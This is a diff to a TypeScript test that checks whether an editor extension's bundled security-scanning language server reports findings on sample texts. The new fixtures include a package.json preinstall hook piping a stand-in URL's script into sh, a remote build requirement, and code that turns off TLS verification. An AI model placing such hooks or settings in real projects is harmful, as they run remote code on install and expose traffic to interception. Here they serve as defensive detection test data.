@@ -133,30 +133,36 @@ describe('the extension', () => {
 
   it('finds with its bundled server what the package finds', async function () {
     this.timeout(60_000);
-    const texts = [
-      ['python', 'rules/bypass/hardcoded-bypass/bad.py'],
-      ['typescript', 'rules/bypass/hardcoded-bypass/bad.ts'],
-      ['typescript', 'rules/payload/tls-verification-off/bad.ts'],
-    ] as const;
-    // Nested more deeply than the thread's own stack can take: the thread with a large one is asked.
-    const nested = `const value = ${'('.repeat(6000)}1${')'.repeat(6000)};\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\n`;
+    const fixture = (name: string): string => readFileSync(join(ROOT, 'rules', name), 'utf8');
+    // One of each way to read a text; each loads code of its own.
+    const texts: readonly (readonly [uri: string, languageId: string, text: string])[] = [
+      ['untitled:a', 'python', fixture('bypass/hardcoded-bypass/bad.py')],
+      ['untitled:b', 'typescript', fixture('bypass/hardcoded-bypass/bad.ts')],
+      ['untitled:c', 'javascript', fixture('payload/code-injection/bad.ts')],
+      ['untitled:d', 'markdown', '# How to\n\n```python\nimport requests\nrequests.get(url, verify=False)\n```\n'],
+      ['file:///shop/package.json', 'json', '{ "scripts": { "preinstall": "curl https://a.example/x.sh | sh" } }\n'],
+      ['file:///shop/pyproject.toml', 'toml', '[build-system]\nrequires = ["tool @ https://files.example.invalid/tool.tar.gz"]\n'],
+      // Nested more deeply than the thread's own stack can take: the thread with a large one is asked.
+      [
+        'untitled:e',
+        'typescript',
+        `const value = ${'('.repeat(6000)}1${')'.repeat(6000)};\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\n`,
+      ],
+    ];
     const reports = await Promise.all(
       [undefined, join(folder.path, 'dist/server/project/main.js')].map(async (program) => {
-        const client = await startClient({ ...(program !== undefined && { program }) });
-        const found: string[][] = [];
-        for (const [languageId, file] of texts) {
-          const uri = `untitled:${found.length}`;
-          client.open(uri, languageId, readFileSync(join(ROOT, file), 'utf8'));
-          found.push((await client.published(uri)).diagnostics.map(brief));
+        const client = await startClient({ ...(program !== undefined && { program }), settings: () => ({ minSeverity: 'note' }) });
+        const found: (readonly [string, readonly string[]])[] = [];
+        for (const [uri, languageId, text] of texts) {
+          client.open(uri, languageId, text);
+          found.push([uri, (await client.published(uri)).diagnostics.map(brief)]);
         }
-        client.open('untitled:nested', 'typescript', nested);
-        found.push((await client.published('untitled:nested')).diagnostics.map(brief));
         assert.equal(await client.end(), 0);
         return found;
       }),
     );
     const [ofPackage, ofExtension] = reports;
     assert.deepEqual(ofExtension, ofPackage);
-    for (const found of ofExtension ?? []) assert.ok(found.length > 0);
+    for (const [uri, found] of ofExtension ?? []) assert.ok(found.length > 0, uri);
   });
 });
